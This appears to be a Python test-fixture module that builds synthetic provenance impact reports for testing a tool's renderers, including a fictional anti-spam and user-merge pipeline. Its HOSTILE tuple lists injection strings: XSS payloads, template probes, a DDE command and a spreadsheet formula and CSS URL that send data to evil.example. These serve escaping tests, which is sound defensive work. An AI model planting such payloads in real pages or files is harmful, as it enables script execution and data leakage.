"""Reports made by hand for the tests of the renderers: a realistic one, a huge one, an empty one and a hostile one.

The realistic one walks a little pipeline by the two rules that matter here (use, processing), so its distances and
paths agree with each other; the impact analysis itself is tested elsewhere.
"""

from __future__ import annotations

import hashlib
from collections import defaultdict, deque
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from graphprov.analysis.report import (
    Affected,
    Cleared,
    Cut,
    FlawedNode,
    ImpactReport,
    Owner,
    Responsible,
    Step,
    Subject,
)
from graphprov.model.identity import artifact_id, parse_id, short_id

MADE_AT = datetime(2026, 7, 6, 8, 30, tzinfo=UTC)
SINCE, UNTIL = datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 5, 1, tzinfo=UTC)
VENDOR = artifact_id("data-source", "acme-threat-intel")
PEOPLE = {
    "Ada Byron": ("trust-team", "ada@jobs.example"),
    "Grace Murray": ("identity-team", "grace@jobs.example"),
    "Katherine Coleman": ("growth-team", "katherine@jobs.example"),
    "Mary Somer": ("growth-team", "mary@jobs.example"),
}


def _digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@dataclass
class Pipeline:
    """Runs in order of time, each with what it used and generated."""

    kinds: dict[str, str] = field(default_factory=dict)
    names: dict[str, str] = field(default_factory=dict)
    times: dict[str, datetime] = field(default_factory=dict)
    who: dict[str, str] = field(default_factory=dict)
    failed: set[str] = field(default_factory=set)
    activities: set[str] = field(default_factory=set)
    steps: list[Step] = field(default_factory=list)

    def thing(self, kind: str, name: str, time: datetime) -> str:
        identifier = artifact_id(kind, name, _digest(f"{kind}{name}{time}"))
        self.kinds[identifier], self.names[identifier], self.times[identifier] = kind, name, time
        return identifier

    def run(
        self, kind: str, name: str, time: datetime, who: str, inputs: list[str], *outputs: str, failed: bool = False
    ) -> str:
        identifier = artifact_id(kind, name, f"{int(time.timestamp() * 1000):012x}{_digest(name + str(time))[:20]}")
        self.kinds[identifier], self.names[identifier], self.times[identifier] = kind, name, time
        self.activities.add(identifier)
        self.who[identifier] = who
        if failed:
            self.failed.add(identifier)
        self.steps += [
            Step(relation="USED", cause=one, effect=identifier, certainty="inferred", role="input", time=time)
            for one in inputs
        ]
        for one in outputs:
            self.who[one] = who
            self.steps.append(
                Step(
                    relation="WAS_GENERATED_BY",
                    cause=identifier,
                    effect=one,
                    certainty="inferred",
                    time=time + timedelta(minutes=40),
                )
            )
        return identifier

    def report(self, flawed: list[str], **more: object) -> ImpactReport:
        effects = defaultdict(list)
        for step in self.steps:
            effects[step.cause].append(step)
        distance = dict.fromkeys(flawed, 0)
        why: dict[str, list[Step]] = {one: [] for one in flawed}
        queue = deque(flawed)
        while queue:
            here = queue.popleft()
            for step in effects[here]:
                if step.effect not in distance:
                    distance[step.effect] = distance[here] + 1
                    why[step.effect] = [*why[here], step]
                    queue.append(step.effect)
        latest_clean: dict[tuple[str, str], datetime] = {}
        for one, time in self.times.items():
            if one not in distance and one not in self.activities:
                key = (self.kinds[one], self.names[one])
                latest_clean[key] = max(time, latest_clean.get(key, time))
        rows = []
        for one in sorted(distance, key=lambda one: (distance[one], one)):
            if not distance[one]:
                continue
            is_run = one in self.activities
            newer = latest_clean.get((self.kinds[one], self.names[one]))
            state = "superseded" if newer and newer > self.times[one] else "live"
            version = parse_id(one).version
            rows.append(
                Affected(
                    id=one,
                    element="Activity" if is_run else "Entity",
                    kind=self.kinds[one],
                    name=self.names[one],
                    version=version[:12] if version else None,
                    time=self.times[one],
                    distance=distance[one],
                    certainty="inferred",
                    state=None if is_run else state,
                    failed=one in self.failed,
                    why=why[one],
                    via=why[one][-2:] if why[one][-1].relation == "WAS_GENERATED_BY" else why[one][-1:],
                    responsible=[artifact_id("person", self.who[one])] if one in self.who else [],
                )
            )
        owners = []
        for person, (team, contact) in PEOPLE.items():
            agent = artifact_id("person", person)
            theirs = [row.id for row in rows if agent in row.responsible]
            if theirs:
                about = Responsible(
                    id=agent,
                    kind="person",
                    name=person,
                    contact=contact,
                    relation="WAS_ASSOCIATED_WITH",
                    on_behalf_of=[artifact_id("organization", team)],
                )
                owners.append(Owner(agent=about, organizations=[team], affected=theirs))
        counts: dict[str, int] = defaultdict(int)
        for row in rows:
            counts[row.kind] += 1
        on_paths = {(step.cause, step.effect) for path in why.values() for step in path}
        return ImpactReport(
            graphprov_version="0.1.0",
            made_at=MADE_AT,
            flawed=[
                FlawedNode(
                    id=one,
                    kind=self.kinds[one],
                    name=self.names[one],
                    version=parse_id(one).version[:12],
                    time=self.times[one],
                    subject=VENDOR,
                )
                for one in flawed
            ],
            counts=dict(counts),
            total=sum(counts.values()),
            affected=rows,
            owners=owners,
            names={one: short_id(one) for one in [*self.names, VENDOR]},
            **{
                "subjects": [
                    Subject(
                        id=VENDOR,
                        element="Agent",
                        kind="data-source",
                        name="acme-threat-intel",
                        given="acme-threat-intel",
                    )
                ],
                "since": SINCE,
                "until": UNTIL,
                "complete": True,
                "relations": [
                    step
                    for step in self.steps
                    if step.cause in distance and step.effect in distance and (step.cause, step.effect) not in on_paths
                ],
                **more,
            },
        )


def demo_report() -> ImpactReport:
    """The anti-spam pipeline over six months; the deliveries of March and April are flawed."""
    p = Pipeline()
    ada, grace, katherine, mary = PEOPLE
    flawed, pairs, cleared = [], [], []
    spam = p.thing("dataset", "spam-accounts", datetime(2026, 1, 5, tzinfo=UTC))
    unsure = []
    for month in range(1, 7):
        start = datetime(2026, month, 3, 6, tzinfo=UTC)

        def at(days: float, start: datetime = start) -> datetime:
            return start + timedelta(days=days)

        blacklist = p.thing("dataset", "ip-blacklist", at(0))
        if month in (3, 4):
            flawed.append(blacklist)
        users = p.thing("dataset", "user-records", at(0.1))

        model = p.thing("model", "antispam", at(1))
        if month == 4:
            p.run("training", "train-antispam", at(0.8), ada, [spam, blacklist], failed=True)
        training = p.run("training", "train-antispam", at(1), ada, [spam, blacklist], model)
        if month == 3:
            vocabulary = p.thing("dataset", "spam-vocabulary", at(1))
            cleared.append(_cleared(vocabulary, "dataset", "spam-vocabulary", "precision", training))
            started = p.thing("dataset", "training-manifest", at(0.99))
            cleared.append(_cleared(started, "dataset", "training-manifest", "time", training))
        judged = p.thing("evaluation", "antispam-evaluation", at(1.2))
        p.run("evaluating", "evaluate-antispam", at(1.2), ada, [model], judged)
        for week in range(4):
            scores = p.thing("predictions", "signup-scores", at(2 + 7 * week))
            p.run("inference", "score-signups", at(2 + 7 * week), ada, [model, users], scores)
        clean = p.thing("dataset", "despammed-users", at(2.1))
        removed = p.thing("dataset", "removed-accounts", at(2.1))
        p.run("cleaning", "remove-spam", at(2.1), ada, [model, users], clean, removed)

        pairs.append(p.thing("feature-table", "account-pairs", at(2.4)))
        p.run("transforming", "build-pairs", at(2.4), grace, [clean], pairs[-1])
        matcher = p.thing("model", "id-merge", at(3))
        p.run("training", "train-id-merge", at(3), grace, pairs[-2:], matcher)
        if month == 3:
            unsure.append(matcher)
        judged = p.thing("evaluation", "id-merge-evaluation", at(3.2))
        p.run("evaluating", "evaluate-id-merge", at(3.2), grace, [matcher], judged)
        merged = p.thing("dataset", "merged-users", at(4))
        p.run("merging", "merge-users", at(4), grace, [matcher, clean], merged)

        if month == 6:  # the growth team has not run its part yet: its affected model and predictions are still in use
            continue
        features = p.thing("feature-table", "job-seeker-features", at(4.3))
        p.run("transforming", "build-features", at(4.3), katherine, [merged], features)
        seeker = p.thing("model", "job-seeker", at(5))
        p.run("training", "train-job-seeker", at(5), katherine, [features], seeker)
        judged = p.thing("evaluation", "job-seeker-evaluation", at(5.1))
        p.run("evaluating", "evaluate-job-seeker", at(5.1), katherine, [seeker], judged)
        for week in range(4):
            seekers = p.thing("predictions", "job-seekers", at(6 + 7 * week))
            p.run("inference", "predict-job-seekers", at(6 + 7 * week), mary, [seeker, merged], seekers)
    legacy = artifact_id("model", "legacy-ranker", "v1")
    report = p.report(
        flawed,
        cleared=cleared,
        time_unknown=unsure,
        unknown_origin=[legacy],
        notes=["Rules for code, membership and influence are not applied yet."],
    )
    return report.model_copy(update={"names": {**report.names, legacy: short_id(legacy)}})


def _cleared(identifier: str, kind: str, name: str, rule: str, activity: str) -> Cleared:
    version = parse_id(identifier).version
    return Cleared(id=identifier, kind=kind, name=name, version=version[:12], rule=rule, activity=activity)


def cut_report() -> ImpactReport:
    """The realistic one, asked for its ten nearest of each kind."""
    report = demo_report()
    kept = [row for row in report.affected if row.distance <= 5]
    cut = Cut(what="affected", shown=len(kept), total=report.total, how="give --limit 0")
    return report.model_copy(update={"affected": kept, "complete": False, "cut": [cut]})


def empty_report() -> ImpactReport:
    """A flaw that nothing used."""
    p = Pipeline()
    return p.report([p.thing("dataset", "ip-blacklist", datetime(2026, 3, 3, 6, tzinfo=UTC))])


def large_report(runs: int) -> ImpactReport:
    """`runs` runs, each with one output, in forty nightly jobs over two years; paths up to fifty relations long."""
    p = Pipeline()
    start = datetime(2024, 3, 1, tzinfo=UTC)
    flawed = p.thing("dataset", "ip-blacklist", start)
    layers = [flawed]
    people = list(PEOPLE)
    kinds = ("dataset", "model", "predictions", "feature-table")
    for number in range(runs):
        job, night = number % 40, number // 40
        time = start + timedelta(minutes=number * 1_000_000 / runs)
        out = p.thing(kinds[job % 4], f"table-{job:02}", time)
        used = layers[-40 + job % 7] if night % 25 and len(layers) > 40 else flawed
        p.run("transforming", f"nightly-job-{job:02}", time, people[job % 4], [used], out)
        layers.append(out)
    report = p.report([flawed], since=start, until=start + timedelta(days=1), relations=[])
    rows = [  # as a real report has it: paths in full for the nearest, one step back for the others
        row.model_copy(update={"why": row.why if at < 100 else None}) for at, row in enumerate(report.affected)
    ]
    return report.model_copy(update={"affected": rows})


HOSTILE = (
    "</script><img src=x onerror=alert(1)>",
    "'\"><svg onload=alert(2)>",
    "--><script>alert(3)</script><!--",
    "{{7*7}}${7*7}<%= 7 %>",
    "`|\\|` **bold** [x](javascript:alert(4)) @everyone #1",
    '=HYPERLINK("http://evil.example/"&A1)',
    "\u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff",
    "two\nlines\r\nand\ttabs\x1b[31m\x07 bell \u2028 \u2029",
    "مجموعة البيانات العربية",
    "数据集" * 30,
    "👩‍👩‍👧‍👦 e\u0301\u0301\u0301\u0301",
    "x" * 100_000,
    "nul\0 and \x7f del",
    "|cmd' /C calc'!A0",
    "__proto__",
    "constructor",
    "]]>&lt;b&gt;&amp;",
    "javascript:alert(5)",
    'style="background:url(http://evil.example/x.png)"',
)


def hostile_report(names: tuple[str, ...] = HOSTILE) -> ImpactReport:
    """Every text that comes from outside is hostile, in every place where one can stand."""
    time = datetime(2026, 3, 3, tzinfo=UTC)
    root = "urn:x:" + names[0]
    rows: list[Affected] = []
    path: list[Step] = []
    owners, ids = [], [root]
    for number, name in enumerate(names, start=1):
        run, out, agent = f"urn:run:{number}:{name}", f"urn:out:{number}:{name}", f"urn:agent:{number}:{name}"
        path = [
            *path[-4:],
            Step(relation="USED", cause=ids[-1], effect=run, certainty="inferred", role=name),
            Step(relation=name, cause=run, effect=out, certainty="possible", role=name, time=time),
        ]
        for one, element in ((run, "Activity"), (out, "Entity")):
            steps = path if element == "Entity" else path[:-1]
            rows.append(
                Affected(
                    id=one,
                    element=element,
                    kind=name,
                    name=name,
                    version=name,
                    time=time,
                    distance=len(steps),
                    certainty="possible",
                    why=steps,
                    state="live" if element == "Entity" else None,
                    failed=element == "Activity",
                    responsible=[agent],
                )
            )
        about = Responsible(id=agent, kind=name, name=name, contact=name, relation=name, on_behalf_of=[name])
        owners.append(Owner(agent=about, organizations=[name], affected=[run, out]))
        ids.append(out)
    rows.sort(key=lambda row: (row.distance, row.id))
    counts: dict[str, int] = defaultdict(int)
    for row in rows:
        counts[row.kind or "other"] += 1
    return ImpactReport(
        graphprov_version=names[0],
        made_at=MADE_AT,
        subjects=[Subject(id=f"urn:{n}", element="Agent", kind=n, name=n, given=n) for n in names[:3]],
        since=SINCE,
        until=None,
        kinds=list(names[:2]),
        complete=False,
        cut=[Cut(what=n, shown=1, total=2, how=n) for n in names[:3]],
        flawed=[
            FlawedNode(id=root, kind=names[0], name=names[0], version=names[0], time=time, subject=f"urn:{names[0]}")
        ],
        counts=dict(counts),
        total=len(rows),
        affected=rows,
        owners=owners,
        cleared=[
            Cleared(id="urn:cleared:" + n, kind=n, name=n, version=n, rule="time", activity=rows[0].id) for n in names
        ],
        time_unknown=list(ids),
        unknown_origin=["urn:unknown:" + n for n in names],
        names={f"urn:unknown:{n}": n for n in names},
        notes=list(names),
    )
